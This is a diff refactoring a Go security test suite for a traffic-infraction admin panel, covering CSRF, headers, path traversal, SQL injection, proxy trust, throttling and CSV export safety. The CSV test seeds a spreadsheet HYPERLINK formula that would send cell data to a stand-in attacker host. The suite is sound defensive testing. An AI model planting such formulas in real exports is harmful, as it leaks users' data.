@@ -1,4 +1,4 @@
-package handlers
+package handlers_test
 
 import (
 	"bufio"
@@ -16,31 +16,35 @@ import (
 
 	"golang.org/x/crypto/bcrypt"
 
+	"transito/handlers"
+	"transito/handlers/admin"
+	"transito/internal/testenv"
 	"transito/models"
+	"transito/models/rules"
 )
 
 // secFixture is a logged-in panel with one record of each kind, so that
 // every :id route has something to point at.
 type secFixture struct {
-	*testEnv
+	*testenv.Client
 	ids map[string]string // first path segment after /admin → an id
 }
 
 func newSecFixture(t *testing.T) *secFixture {
 	t.Helper()
-	e := newTestEnv(t)
-	p := mustPerson(t, e.store, "Ana Pérez", "ana@example.com")
-	v := mustVehicle(t, e.store, "AB123CD", p.ID)
-	o := mustOfficer(t, e.store, "Oficial Uno", "B1")
-	inf := mustInfraction(t, e.store, v.Plate, o.Badge, time.Now().Add(-time.Hour))
-	other, err := e.store.CreateAdmin(t.Context(), adminInput("otra", testPassword), testActor)
+	e := testenv.Panel(t)
+	p := testenv.MustPerson(t, e.Store, "Ana Pérez", "ana@example.com")
+	v := testenv.MustVehicle(t, e.Store, "AB123CD", p.ID)
+	o := testenv.MustOfficer(t, e.Store, "Oficial Uno", "B1")
+	inf := testenv.MustInfraction(t, e.Store, v.Plate, o.Badge, time.Now().Add(-time.Hour))
+	other, err := e.Store.CreateAdmin(t.Context(), rules.AdminInput{Username: "otra", Password: testenv.Password}, testenv.Actor)
 	if err != nil {
 		t.Fatal(err)
 	}
-	e.login()
-	return &secFixture{testEnv: e, ids: map[string]string{
-		"personas": itoa64(p.ID), "vehiculos": itoa64(v.ID), "oficiales": itoa64(o.ID),
-		"infracciones": itoa64(inf), "administradores": itoa64(other.ID),
+	e.Login()
+	return &secFixture{Client: e, ids: map[string]string{
+		"personas": fmt.Sprint(p.ID), "vehiculos": fmt.Sprint(v.ID), "oficiales": fmt.Sprint(o.ID),
+		"infracciones": fmt.Sprint(inf), "administradores": fmt.Sprint(other.ID),
 	}}
 }
 
@@ -57,7 +61,7 @@ func (f *secFixture) concrete(path string) string {
 
 func (f *secFixture) auditTotal(t *testing.T) int {
 	t.Helper()
-	res, err := f.store.ListAudit(context.Background(), &models.ListQuery{}, time.UTC)
+	res, err := f.Store.ListAudit(context.Background(), models.ListQuery{}, time.UTC)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -73,23 +77,23 @@ func isSafeMethod(m string) bool {
 func TestEveryStateChangingAdminRouteNeedsCSRF(t *testing.T) {
 	f := newSecFixture(t)
 	checked := 0
-	for _, r := range f.srv.App.GetRoutes(true) {
+	for _, r := range f.Server.App.GetRoutes(true) {
 		if !strings.HasPrefix(r.Path, "/admin") || isSafeMethod(r.Method) {
 			continue
 		}
 		checked++
 		path := f.concrete(r.Path)
-		for name, token := range map[string]string{"missing": "", "wrong": wrongToken(f.csrf)} {
+		for name, token := range map[string]string{"missing": "", "wrong": testenv.WrongToken(f.CSRF)} {
 			t.Run(r.Method+" "+r.Path+" "+name, func(t *testing.T) {
 				before := f.auditTotal(t)
 				form := url.Values{"_csrf": {token}, "nombre": {"Cambiado"}, "email": {"cambiado@example.com"},
-					"usuario": {"admin"}, "clave": {testPassword}, "motivo": {"CSRF"}, "placa_patente": {"ZZ999ZZ"}}
+					"usuario": {"admin"}, "clave": {testenv.Password}, "motivo": {"CSRF"}, "placa_patente": {"ZZ999ZZ"}}
 				req := httptest.NewRequest(r.Method, path, strings.NewReader(form.Encode()))
 				req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
 				if token != "" {
 					req.Header.Set("X-CSRF-Token", token)
 				}
-				resp := f.do(req)
+				resp := f.Do(req)
 				body, _ := io.ReadAll(resp.Body)
 				resp.Body.Close()
 				if resp.StatusCode != http.StatusForbidden {
@@ -110,7 +114,7 @@ func TestEveryStateChangingAdminRouteNeedsCSRF(t *testing.T) {
 	if checked < 20 {
 		t.Fatalf("only %d state-changing admin routes found: the route walk is broken", checked)
 	}
-	if _, doc := f.get("/admin"); testid(doc, "current-user").Text() != "admin" {
+	if _, doc := f.Get("/admin"); testenv.Testid(doc, "current-user").Text() != "admin" {
 		t.Error("a refused logout ended the session")
 	}
 }
@@ -120,18 +124,18 @@ func TestEveryStateChangingAdminRouteNeedsCSRF(t *testing.T) {
 func TestSecurityHeadersOnEveryHTMLResponse(t *testing.T) {
 	f := newSecFixture(t)
 	paths := []string{"/no-existe", "/admin/no-existe", "/admin/personas/999999", "/consulta?email=x", "/admin/login"}
-	for _, r := range f.srv.App.GetRoutes(true) {
+	for _, r := range f.Server.App.GetRoutes(true) {
 		if r.Method == http.MethodGet {
 			paths = append(paths, f.concrete(r.Path))
 		}
 	}
-	anon := newTestEnv(t)
+	anon := testenv.Panel(t)
 	html := 0
-	for _, env := range []*testEnv{f.testEnv, anon} {
+	for _, env := range []*testenv.Client{f.Client, anon} {
 		for _, p := range paths {
 			req := httptest.NewRequest(http.MethodGet, p, nil)
 			req.Header.Set("Accept", "text/html")
-			resp := env.do(req)
+			resp := env.Do(req)
 			resp.Body.Close()
 			if !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") {
 				continue
@@ -162,15 +166,10 @@ func TestSecurityHeadersOnEveryHTMLResponse(t *testing.T) {
 // request line exactly as written (over a socket: a client library would
 // clean them) and checks none reaches a file outside the embedded assets.
 func TestStaticFilesCannotEscapeTheirRoot(t *testing.T) {
-	e := newTestEnv(t)
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	go e.srv.App.Listener(ln)
-	t.Cleanup(func() { e.srv.App.Shutdown() })
+	e := testenv.Panel(t)
+	addr := e.Listen()
 	raw := func(path string) (int, string) {
-		conn, err := net.Dial("tcp", ln.Addr().String())
+		conn, err := net.Dial("tcp", addr)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -220,18 +219,18 @@ func TestSQLInjectionInSearchBoxesAndFilters(t *testing.T) {
 	for path, params := range lists {
 		for _, param := range params {
 			for _, p := range payloads {
-				resp, doc := f.get(path + "?" + url.Values{param: {p}}.Encode())
+				resp, doc := f.Get(path + "?" + url.Values{param: {p}}.Encode())
 				if resp.StatusCode >= 500 {
 					t.Fatalf("%s?%s=%q: %d", path, param, p, resp.StatusCode)
 				}
 				if path == "/admin/personas/buscar" {
-					if n := testid(doc, "person-option").Length(); n != 0 {
+					if n := testenv.Testid(doc, "person-option").Length(); n != 0 {
 						t.Errorf("%s?%s=%q: %d persons match a literal that is in no name", path, param, p, n)
 					}
 					continue
 				}
 				if param == "q" || param == "patente" || param == "titular" || param == "marca" || param == "color" {
-					if n := testid(doc, "row").Length(); n != 0 {
+					if n := testenv.Testid(doc, "row").Length(); n != 0 {
 						t.Errorf("%s?%s=%q: %d rows match a literal that is in no record", path, param, p, n)
 					}
 				}
@@ -240,7 +239,7 @@ func TestSQLInjectionInSearchBoxesAndFilters(t *testing.T) {
 	}
 	for _, p := range payloads {
 		for _, path := range []string{"/generar_informe?email=", "/consulta?email=", "/admin/personas/" + f.ids["personas"] + "?persona_q="} {
-			resp, _ := f.get(path + url.QueryEscape(p))
+			resp, _ := f.Get(path + url.QueryEscape(p))
 			if resp.StatusCode >= 500 || resp.StatusCode == 200 && strings.HasPrefix(path, "/generar_informe") {
 				t.Errorf("%s%q: %d", path, p, resp.StatusCode)
 			}
@@ -250,14 +249,14 @@ func TestSQLInjectionInSearchBoxesAndFilters(t *testing.T) {
 		path string
 		rows int
 	}{{"/admin/personas", 1}, {"/admin/vehiculos", 1}, {"/admin/infracciones", 1}, {"/admin/oficiales", 1}} {
-		if _, doc := f.get(check.path); testid(doc, "row").Length() != check.rows {
-			t.Errorf("%s: %d rows after the injections, want %d", check.path, testid(doc, "row").Length(), check.rows)
+		if _, doc := f.Get(check.path); testenv.Testid(doc, "row").Length() != check.rows {
+			t.Errorf("%s: %d rows after the injections, want %d", check.path, testenv.Testid(doc, "row").Length(), check.rows)
 		}
 	}
 }
 
 func TestForwardedProtoBelievedOnlyFromATrustedProxy(t *testing.T) {
-	e := newTestEnv(t)
+	e := testenv.Panel(t)
 	for _, tc := range []struct {
 		name    string
 		proxies []string
@@ -267,7 +266,7 @@ func TestForwardedProtoBelievedOnlyFromATrustedProxy(t *testing.T) {
 		{"peer in a trusted range", []string{"0.0.0.0/8"}, true},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
-			srv := New(e.store, nil, e.srv.log, Config{TrustedProxies: tc.proxies})
+			srv := e.Serve(handlers.Config{TrustedProxies: tc.proxies})
 			req := httptest.NewRequest(http.MethodGet, "/admin/login", nil)
 			req.Header.Set("X-Forwarded-Proto", "https")
 			resp, err := srv.App.Test(req)
@@ -275,7 +274,7 @@ func TestForwardedProtoBelievedOnlyFromATrustedProxy(t *testing.T) {
 				t.Fatal(err)
 			}
 			for _, c := range resp.Cookies() {
-				if c.Name == SessionCookie && c.Secure != tc.secure {
+				if c.Name == admin.SessionCookie && c.Secure != tc.secure {
 					t.Errorf("Secure = %v, want %v", c.Secure, tc.secure)
 				}
 			}
@@ -284,8 +283,8 @@ func TestForwardedProtoBelievedOnlyFromATrustedProxy(t *testing.T) {
 }
 
 func TestPasswordsHashedWithBcryptCost12(t *testing.T) {
-	e := newTestEnv(t)
-	a, err := e.store.AdminByID(t.Context(), e.admin.ID)
+	e := testenv.Panel(t)
+	a, err := e.Store.AdminByID(t.Context(), e.Admin.ID)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -293,23 +292,8 @@ func TestPasswordsHashedWithBcryptCost12(t *testing.T) {
 	if err != nil || cost < 12 {
 		t.Fatalf("bcrypt cost %d (%v), want ≥ 12", cost, err)
 	}
-	if strings.Contains(a.PasswordHash, testPassword) {
+	if strings.Contains(a.PasswordHash, testenv.Password) {
 		t.Fatal("password stored in clear")
-	}
-}
-
-// TestSessionAndCSRFTokensCarry128Bits checks the randomness of the tokens
-// a browser holds: distinct, and at least 16 random bytes each.
-func TestSessionAndCSRFTokensCarry128Bits(t *testing.T) {
-	seen := map[string]bool{}
-	for range 200 {
-		s := fresh()
-		for _, tok := range []string{s.ID, s.CSRF} {
-			if len(tok) < 22 || seen[tok] {
-				t.Fatalf("token %q short or repeated", tok)
-			}
-			seen[tok] = true
-		}
 	}
 }
 
@@ -317,18 +301,18 @@ func TestSessionAndCSRFTokensCarry128Bits(t *testing.T) {
 // or upper-case spelling of the login form nor a forged X-Forwarded-For
 // from an untrusted peer resets the failure count.
 func TestLoginThrottleSharedByTheSpellings(t *testing.T) {
-	e := newTestEnv(t)
-	e.loginPage()
+	e := testenv.Panel(t)
+	e.LoginPage()
 	for i := range 5 {
 		path := "/admin/login"
 		if i%2 == 1 {
 			path += "/"
 		}
-		resp, _ := e.post(path, url.Values{"usuario": {"admin"}, "clave": {"mala"}}, "X-Forwarded-For", "198.51.100."+itoa64(int64(i)))
-		wantStatus(t, resp, http.StatusUnauthorized)
+		resp, _ := e.Post(path, url.Values{"usuario": {"admin"}, "clave": {"mala"}}, "X-Forwarded-For", "198.51.100."+fmt.Sprint(int64(i)))
+		testenv.WantStatus(t, resp, http.StatusUnauthorized)
 	}
 	for _, path := range []string{"/admin/login/", "/admin/login", "/ADMIN/login"} {
-		resp, _ := e.post(path, url.Values{"usuario": {"admin"}, "clave": {testPassword}})
+		resp, _ := e.Post(path, url.Values{"usuario": {"admin"}, "clave": {testenv.Password}})
 		if resp.StatusCode == http.StatusSeeOther {
 			t.Fatalf("POST %s logged in after 5 failures", path)
 		}
@@ -341,15 +325,15 @@ func TestLoginThrottleSharedByTheSpellings(t *testing.T) {
 // untrusted peer: none of them buys a fresh budget.
 func TestLookupRateLimitHoldsAcrossSpellings(t *testing.T) {
 	spellings := []string{"/generar_informe", "/generar_informe/", "/api/v1/informes", "/api/v1/informes/", "/consulta", "/consulta/", "/GENERAR_INFORME"}
-	env := newAPIEnv(t, Config{RateLimit: len(spellings)})
+	env := testenv.API(t, handlers.Config{RateLimit: len(spellings)})
 	for i, p := range spellings {
-		resp, _ := env.do(t, "GET", p+"?email=ana@example.com", "", "", "X-Forwarded-For", "10.0.0."+itoa64(int64(i)))
+		resp, _ := env.Send(t, "GET", p+"?email=ana@example.com", "", "", "X-Forwarded-For", "10.0.0."+fmt.Sprint(int64(i)))
 		if resp.StatusCode != 200 {
 			t.Fatalf("%s: %d, want 200 within the budget", p, resp.StatusCode)
 		}
 	}
 	for i, p := range spellings {
-		resp, _ := env.do(t, "GET", p+"?email=nadie"+itoa64(int64(i))+"@example.com", "", "", "X-Forwarded-For", "192.0.2."+itoa64(int64(i)))
+		resp, _ := env.Send(t, "GET", p+"?email=nadie"+fmt.Sprint(int64(i))+"@example.com", "", "", "X-Forwarded-For", "192.0.2."+fmt.Sprint(int64(i)))
 		if resp.StatusCode != 429 || resp.Header.Get("Retry-After") == "" {
 			t.Errorf("%s past the budget: %d, want 429 with Retry-After", p, resp.StatusCode)
 		}
@@ -364,29 +348,29 @@ func TestLookupRateLimitHoldsAcrossSpellings(t *testing.T) {
 func TestForgedForwardedForBehindATrustedProxy(t *testing.T) {
 	proxies := []string{"0.0.0.0", "10.0.0.0/8"} // the in-process peer, an inner proxy tier
 	t.Run("look-up rate limit", func(t *testing.T) {
-		env := newAPIEnv(t, Config{RateLimit: 2, TrustedProxies: proxies})
+		env := testenv.API(t, handlers.Config{RateLimit: 2, TrustedProxies: proxies})
 		for i, want := range []int{200, 200, 429, 429} {
 			xff := fmt.Sprintf("198.51.100.%d, 203.0.113.7, 10.1.1.1", i)
-			if resp, _ := env.do(t, "GET", "/generar_informe?email=ana@example.com", "", "", "X-Forwarded-For", xff); resp.StatusCode != want {
+			if resp, _ := env.Send(t, "GET", "/generar_informe?email=ana@example.com", "", "", "X-Forwarded-For", xff); resp.StatusCode != want {
 				t.Errorf("request %d (X-Forwarded-For %s): %d, want %d", i, xff, resp.StatusCode, want)
 			}
 		}
-		if resp, _ := env.do(t, "GET", "/generar_informe?email=ana@example.com", "", "", "X-Forwarded-For", "203.0.113.8"); resp.StatusCode != 200 {
+		if resp, _ := env.Send(t, "GET", "/generar_informe?email=ana@example.com", "", "", "X-Forwarded-For", "203.0.113.8"); resp.StatusCode != 200 {
 			t.Errorf("another client behind the proxy: %d, want 200 (its own budget)", resp.StatusCode)
 		}
 	})
 	t.Run("login throttle", func(t *testing.T) {
-		e := newTestEnv(t)
-		e.srv = New(e.store, e.srv.recorder, e.srv.log, Config{TrustedProxies: proxies, ImportDir: t.TempDir()})
-		e.loginPage()
+		e := testenv.Panel(t)
+		e.Server = e.Serve(handlers.Config{TrustedProxies: proxies, ImportDir: t.TempDir()})
+		e.LoginPage()
 		for i := range 5 {
-			resp, _ := e.post("/admin/login", url.Values{"usuario": {"admin"}, "clave": {"mala"}}, "X-Forwarded-For", fmt.Sprintf("198.51.100.%d, 203.0.113.7", i))
-			wantStatus(t, resp, http.StatusUnauthorized)
+			resp, _ := e.Post("/admin/login", url.Values{"usuario": {"admin"}, "clave": {"mala"}}, "X-Forwarded-For", fmt.Sprintf("198.51.100.%d, 203.0.113.7", i))
+			testenv.WantStatus(t, resp, http.StatusUnauthorized)
 		}
-		resp, _ := e.post("/admin/login", url.Values{"usuario": {"admin"}, "clave": {testPassword}}, "X-Forwarded-For", "192.0.2.1, 203.0.113.7")
-		wantStatus(t, resp, http.StatusTooManyRequests)
-		resp, _ = e.post("/admin/login", url.Values{"usuario": {"admin"}, "clave": {testPassword}}, "X-Forwarded-For", "203.0.113.8")
-		wantStatus(t, resp, http.StatusSeeOther)
+		resp, _ := e.Post("/admin/login", url.Values{"usuario": {"admin"}, "clave": {testenv.Password}}, "X-Forwarded-For", "192.0.2.1, 203.0.113.7")
+		testenv.WantStatus(t, resp, http.StatusTooManyRequests)
+		resp, _ = e.Post("/admin/login", url.Values{"usuario": {"admin"}, "clave": {testenv.Password}}, "X-Forwarded-For", "203.0.113.8")
+		testenv.WantStatus(t, resp, http.StatusSeeOther)
 	})
 }
 
@@ -394,30 +378,30 @@ func TestForgedForwardedForBehindATrustedProxy(t *testing.T) {
 // field and checks no cell of any list's CSV export starts with a character
 // a spreadsheet would evaluate.
 func TestCSVExportsDefuseFormulas(t *testing.T) {
-	e := newTestEnv(t)
+	e := testenv.Panel(t)
 	ctx := context.Background()
 	formulas := []string{`=HYPERLINK("http://evil.example/?x="&A1,"ver")`, "+1+1", "-2+3", "@SUM(1,2)"}
 	for i, f := range formulas {
-		p, err := e.store.CreatePerson(ctx, models.PersonInput{Name: f, Email: "f" + itoa64(int64(i)) + "@example.com"}, testActor)
+		p, err := e.Store.CreatePerson(ctx, rules.PersonInput{Name: f, Email: "f" + fmt.Sprint(int64(i)) + "@example.com"}, testenv.Actor)
 		if err != nil {
 			t.Fatal(err)
 		}
-		plate := "CSV" + itoa64(int64(i))
-		if _, err := e.store.CreateVehicle(ctx, models.VehicleInput{Plate: plate, Brand: f[:min(len(f), 60)], Color: f[:min(len(f), 60)], PersonID: p.ID}, testActor); err != nil {
+		plate := "CSV" + fmt.Sprint(int64(i))
+		if _, err := e.Store.CreateVehicle(ctx, rules.VehicleInput{Plate: plate, Brand: f[:min(len(f), 60)], Color: f[:min(len(f), 60)], PersonID: p.ID}, testenv.Actor); err != nil {
 			t.Fatal(err)
 		}
-		badge := "F" + itoa64(int64(i))
-		if _, err := e.store.CreateOfficer(ctx, models.OfficerInput{Name: f, Badge: badge, Active: true}, testActor); err != nil {
+		badge := "F" + fmt.Sprint(int64(i))
+		if _, err := e.Store.CreateOfficer(ctx, rules.OfficerInput{Name: f, Badge: badge, Active: true}, testenv.Actor); err != nil {
 			t.Fatal(err)
 		}
-		if _, err := e.store.CreateInfraction(ctx, models.InfractionInput{Plate: plate, Badge: badge, OccurredAt: time.Now().Add(-time.Hour), Comments: f}, testActor); err != nil {
+		if _, err := e.Store.CreateInfraction(ctx, rules.InfractionInput{Plate: plate, Badge: badge, OccurredAt: time.Now().Add(-time.Hour), Comments: f}, testenv.Actor); err != nil {
 			t.Fatal(err)
 		}
 	}
-	e.login()
+	e.Login()
 	for _, list := range []string{"/admin/personas", "/admin/vehiculos", "/admin/oficiales", "/admin/infracciones", "/admin/auditoria", "/admin/administradores"} {
-		resp := e.do(httptest.NewRequest(http.MethodGet, list+"?formato=csv", nil))
-		wantStatus(t, resp, http.StatusOK)
+		resp := e.Do(httptest.NewRequest(http.MethodGet, list+"?formato=csv", nil))
+		testenv.WantStatus(t, resp, http.StatusOK)
 		recs, err := csv.NewReader(resp.Body).ReadAll()
 		resp.Body.Close()
 		if err != nil || len(recs) < 2 {
@@ -431,13 +415,4 @@ func TestCSVExportsDefuseFormulas(t *testing.T) {
 			}
 		}
 	}
-}
-
-// wrongToken is a token of the same shape that differs from tok (a fixed
-// replacement of the first character would equal tok one time in 64).
-func wrongToken(tok string) string {
-	if strings.HasPrefix(tok, "x") {
-		return "y" + tok[1:]
-	}
-	return "x" + tok[1:]
 }
